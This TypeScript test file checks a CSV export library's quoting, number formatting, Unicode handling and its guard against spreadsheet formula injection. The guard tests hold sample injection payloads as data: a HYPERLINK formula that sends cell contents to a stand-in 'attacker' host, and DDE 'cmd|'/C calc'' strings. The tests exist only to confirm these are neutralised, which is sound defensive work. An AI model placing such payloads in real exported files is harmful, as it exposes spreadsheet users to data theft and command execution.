import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { formatCsvNumber, neutraliseFormula, toCsv } from '../../../shared/io';
import { csvCellArb } from './csv-cell-arbitrary';

/** One text cell as its own one-row CSV, without the record's CRLF. */
const cell = (text: string) => toCsv([[text]]).slice(0, -2);

// Always name the delimiter: Papa Parse guesses it otherwise, and can guess wrong.
const parse = (csv: string) => {
  const result = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n', quoteChar: '"' });
  expect(result.errors).toEqual([]);
  // The CRLF that ends the last record reads as one more, empty, row.
  expect(result.data.at(-1)).toEqual(['']);
  return result.data.slice(0, -1);
};

describe('RFC 4180 framing', () => {
  it('ends every record with CRLF and quotes only what needs it', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['c', 1],
      ]),
    ).toBe('a,b\r\nc,1\r\n');
    expect(cell('a,b')).toBe('"a,b"');
    expect(cell('say "hi"')).toBe('"say ""hi"""');
    expect(cell('line1\r\nline2')).toBe('"line1\r\nline2"');
    expect(cell('cr\ronly')).toBe('"cr\ronly"');
    expect(cell('plain text')).toBe('plain text');
  });

  it('writes empty text as "" and a missing value (null) as nothing', () => {
    expect(toCsv([['', null, 'x']])).toBe('"",,x\r\n');
  });

  it('refuses rows of a different width than the header', () => {
    expect(() => toCsv([['a', 'b'], ['c']])).toThrow('CSV row 2 has 1 cells, but the header has 2');
  });

  it('writes nothing for no rows', () => {
    expect(toCsv([])).toBe('');
  });

  it('starts with a UTF-8 BOM only when asked, and keeps non-ASCII text intact', () => {
    const rows = [['name'], ['Müller'], ['€'], ['日本'], ['👍']];
    expect(toCsv(rows).charCodeAt(0)).toBe(0x6e); // "n"
    const withBom = toCsv(rows, { bom: true });
    expect(withBom.charCodeAt(0)).toBe(0xfeff);
    // As bytes, the BOM is EF BB BF.
    expect([...new TextEncoder().encode(withBom).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parse(withBom.slice(1))).toEqual(rows);
  });

  it('replaces a lone surrogate with U+FFFD, and keeps surrogate pairs', () => {
    expect(cell('a\uD800b')).toBe('a\uFFFDb');
    expect(cell('\uDC00')).toBe('\uFFFD');
    expect(cell('\uD83D\uDC4D')).toBe('👍');
  });
});

describe('formula-injection guard', () => {
  it.each([
    ['=1+2', `"'=1+2"`],
    ['=HYPERLINK("http://attacker/?"&A1,"click")', `"'=HYPERLINK(""http://attacker/?""&A1,""click"")"`],
    ["=cmd|'/C calc'!A0", `"'=cmd|'/C calc'!A0"`],
    ["+1+cmd|'/C calc'!A0", `"'+1+cmd|'/C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['\n=1+2', `"'\n=1+2"`],
    ['\0=1', `"'\0=1"`],
    ['=1+2\nsecond line', `"'=1+2\nsecond line"`],
    // OWASP's two worked examples.
    // ... guarded after each ";" as well (rev 2: Excel in ";" locales splits the cell there).
    ['=1+2";=1+2', `"'=1+2"";'=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    // Not at the start: no guard, just RFC quoting.
    ['a,=1+2', '"a,=1+2"'],
    ['"=1+2"', '"""=1+2"""'],
    // An expression the user typed that starts with a minus is text, so it is guarded.
    ['-growth*2', `"'-growth*2"`],
  ])('writes %j as %s', (text, expected) => {
    expect(cell(text)).toBe(expected);
  });

  it('leaves numbers alone: a negative number stays a bare number', () => {
    expect(toCsv([[-5, -0.5, 0]])).toBe('-5,-0.5,0\r\n');
  });

  it('neutraliseFormula prefixes exactly the trigger characters', () => {
    for (const t of ['=', '+', '-', '@', '\t', '\r', '\n', '\0']) expect(neutraliseFormula(`${t}x`)).toBe(`'${t}x`);
    for (const t of ['a', "'=1", '1', '', 'a =1']) expect(neutraliseFormula(t)).toBe(t);
    // Rev 2: after leading whitespace, and full-width look-alikes, are guarded too.
    for (const t of [' =1', '＝1']) expect(neutraliseFormula(t)).toBe(`'${t}`);
  });
});

describe('formatCsvNumber', () => {
  it.each([
    [1e21, '1000000000000000000000'],
    [1e-7, '0.0000001'],
    [-0, '0'],
    [1234.5, '1234.5'],
    [1234567.891, '1234567.891'],
    [-0.5, '-0.5'],
    [1.5e-10, '0.00000000015'],
    [-2.5e22, '-25000000000000000000000'],
    [123e20, '12300000000000000000000'],
    [5e-324, `0.${'0'.repeat(323)}5`],
  ])('writes %d as %s', (n, expected) => {
    expect(formatCsvNumber(n)).toBe(expected);
  });

  it('throws on NaN and Infinity', () => {
    expect(() => formatCsvNumber(Number.NaN)).toThrow('cannot write NaN to CSV');
    expect(() => formatCsvNumber(Number.POSITIVE_INFINITY)).toThrow('cannot write Infinity to CSV');
    expect(() => toCsv([[Number.NEGATIVE_INFINITY]])).toThrow('cannot write -Infinity to CSV');
  });

  it('reads back as the same number, in plain decimal form, for every finite double', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (x) => {
        const s = formatCsvNumber(x);
        expect(s).toMatch(/^-?\d+(\.\d+)?$/);
        expect(Number(s)).toBe(Object.is(x, -0) ? 0 : x);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('CSV round trip through Papa Parse', () => {
  const rowsArb = fc
    .integer({ min: 1, max: 5 })
    .chain((width) =>
      fc.array(fc.array(csvCellArb, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }),
    );
  const LONE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

  it('gives back every cell: text (after the guard quote), numbers by value, null as empty', () => {
    fc.assert(
      fc.property(rowsArb, fc.boolean(), (rows, bom) => {
        const csv = toCsv(rows, { bom });
        const parsed = parse(bom ? csv.slice(1) : csv);
        expect(parsed.length).toBe(rows.length);
        rows.forEach((row, r) => {
          expect(parsed[r].length).toBe(row.length);
          row.forEach((c, i) => {
            const field = parsed[r][i];
            if (c === null) expect(field).toBe('');
            else if (typeof c === 'number') {
              expect(Number(field)).toBe(c === 0 ? 0 : c);
              expect(field).toMatch(/^-?\d+(\.\d+)?$/);
            } else {
              const written = c.replace(LONE, '\uFFFD');
              // Each ";"-separated part is guarded on its own (rev 2).
              const parts = field.split(';');
              const writtenParts = written.split(';');
              parts.forEach((part, k) => {
                const guarded = neutraliseFormula(writtenParts[k]) !== writtenParts[k];
                expect(guarded ? part.slice(1) : part).toBe(writtenParts[k]);
                if (guarded) expect(part[0]).toBe("'");
                // No part reads back starting with a formula trigger.
                expect(part).not.toMatch(/^[=+\-@\t\r\n\0]/);
              });
            }
          });
        });
      }),
      { numRuns: 500 },
    );
  });
});

describe('CSV safety (rev 2)', () => {
  it('quotes text holding ";" and guards each part after a ";" (Excel splits there in ";" locales)', () => {
    // "a;=1+1" -> a;'=1+1, quoted because of the ";".
    expect(toCsv([['name'], ['a;=1+1']])).toBe('name\r\n"a;\'=1+1"\r\n');
    expect(toCsv([['name'], ['plain;text']])).toBe('name\r\n"plain;text"\r\n');
  });

  it('guards after leading Unicode whitespace and full-width look-alikes', () => {
    expect(neutraliseFormula('\u3000=HYPERLINK("x")')).toBe('\'\u3000=HYPERLINK("x")');
    expect(neutraliseFormula('\u00a0+1')).toBe("'\u00a0+1");
    expect(neutraliseFormula('\uff1dSUM(A1)')).toBe("'\uff1dSUM(A1)");
    expect(neutraliseFormula('\uff0b1')).toBe("'\uff0b1");
    expect(neutraliseFormula('\u22121')).toBe("'\u22121");
    expect(neutraliseFormula('Summarization')).toBe('Summarization');
  });
});
